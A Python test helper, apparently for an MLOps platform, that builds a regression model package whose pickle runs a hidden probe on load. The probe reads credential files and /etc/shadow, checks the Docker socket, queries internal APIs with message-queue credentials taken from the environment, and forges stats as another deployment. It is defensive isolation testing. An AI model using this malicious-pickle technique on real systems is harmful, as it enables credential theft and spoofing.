"""A model package whose pickle probes its surroundings when loaded, then behaves as a valid model.

The probe prints one `HOSTILE-PROBE {json}` line: what it could read and reach from wherever it was loaded.
"""
from __future__ import annotations

import pickle
from pathlib import Path
from typing import Any

import yaml

from tests.agent.packages import FEATURES

MARKER = "HOSTILE-PROBE "
VICTIM = "victimdeployment0000"

PROBE = r'''
import json, os, sys, base64, urllib.request, urllib.error
from urllib.parse import urlsplit, unquote
out = {"where": os.environ.get("MLOPS_DEPLOYMENT_ID") or "sandbox", "uid": os.getuid()}
def read(path):
    try:
        with open(path, "rb") as fh:
            return "READ %d bytes" % len(fh.read())
    except Exception as exc:
        return type(exc).__name__
for name in ("token", "tokens.json", "secrets.yml", "bosun.db"):
    out["file:" + name] = read(os.path.join(HOME, name))
out["file:/etc/shadow"] = read("/etc/shadow")
out["docker.sock"] = os.path.exists("/var/run/docker.sock")
def http(url, auth=None):
    try:
        req = urllib.request.Request(url)
        if auth:
            req.add_header("Authorization", "Basic " + base64.b64encode(auth.encode()).decode())
        return urllib.request.urlopen(req, timeout=3).status
    except urllib.error.HTTPError as exc:
        return exc.code
    except Exception as exc:
        return type(exc).__name__
out["service"] = http("http://service:8765/api/v1/packages")
out["traefik_api"] = http("http://traefik:8080/api/rawdata")
try:
    open(os.path.join(os.environ.get("PPS_MODEL_DIR", "/package"), "planted"), "w").close()
    out["write_package"] = "WROTE"
except Exception as exc:
    out["write_package"] = type(exc).__name__
url = os.environ.get("MLOPS_RABBITMQ_QUEUE_URL", "")
if url:
    parts = urlsplit(url)
    out["mq_user"] = parts.username
    out["mq_admin_password"] = unquote(parts.password or "") == ADMIN_PASSWORD
    out["mq_queues"] = http("http://rabbitmq:15672/api/queues", parts.username + ":" + unquote(parts.password or ""))
    import pika
    def amqp(action):
        try:
            conn = pika.BlockingConnection(pika.URLParameters(url))
            chan = conn.channel()
            chan.confirm_delivery()
            action(chan)
            conn.close()
            return "OK"
        except Exception as exc:
            return type(exc).__name__ + ":" + str(getattr(exc, "reply_code", ""))
    out["mq_read"] = amqp(lambda chan: chan.basic_get("mlops", auto_ack=True))
    out["mq_default_exchange"] = amqp(lambda chan: chan.basic_publish("", "mlops", b"{}"))
    out["mq_other_routing_key"] = amqp(lambda chan: chan.basic_publish("bosun.pps", VICTIM, b"{}"))
    # Forge: the reporting library, told it is the victim, over this deployment's own (allowed) routing key.
    own = os.environ["MLOPS_DEPLOYMENT_ID"]
    os.environ["MLOPS_DEPLOYMENT_ID"] = VICTIM
    try:
        from bosun_local.mlops import MLOps
        mlops = MLOps().init()
        mlops.report_deployment_stats(12345, 1.0)
        out["forged_sent"] = mlops.shutdown(timeout_sec=20)
    except Exception as exc:
        out["forged_sent"] = type(exc).__name__ + ": " + str(exc)
    finally:
        os.environ["MLOPS_DEPLOYMENT_ID"] = own
sys.stdout.write("\n" + MARKER + json.dumps(out) + "\n")
sys.stdout.flush()
sys.stderr.write(MARKER + json.dumps(out) + "\n")
import pickle
model = pickle.loads(MODEL)
'''


class _Hostile:
    """Unpickles by running the probe, then yields the real model."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return eval, ("(exec(CODE, globals()), model)[1]", {"CODE": self.code})


def hostile_package(directory: Path, home: Path, admin_password: str) -> Path:
    """Write a regression package (LinearRegression on diabetes) whose pickle runs the probe on load."""
    from sklearn.datasets import load_diabetes
    from sklearn.linear_model import LinearRegression

    data = load_diabetes(scaled=False, as_frame=True)
    model = LinearRegression().fit(data.data[FEATURES], data.target)
    header = (f"HOME = {str(home)!r}\nMARKER = {MARKER!r}\nVICTIM = {VICTIM!r}\n"
              f"ADMIN_PASSWORD = {admin_password!r}\nMODEL = {pickle.dumps(model)!r}\n")
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "model.pkl").write_bytes(pickle.dumps(_Hostile(header + PROBE)))
    spec = {"name": "hostile", "targetName": "y", "targetType": "regression",
            "features": [{"name": f, "type": "numeric"} for f in FEATURES]}
    (directory / "model.yaml").write_text(yaml.safe_dump(spec, sort_keys=False))
    frame = data.data[FEATURES].assign(y=data.target)
    frame.to_csv(directory / "training.csv", index=False)
    return directory


def probe_of(output: str) -> dict[str, Any] | None:
    """Return the probe's findings printed in a container's output, if any."""
    import json

    for line in reversed(output.splitlines()):
        if line.startswith(MARKER):
            return dict(json.loads(line[len(MARKER):]))
    return None
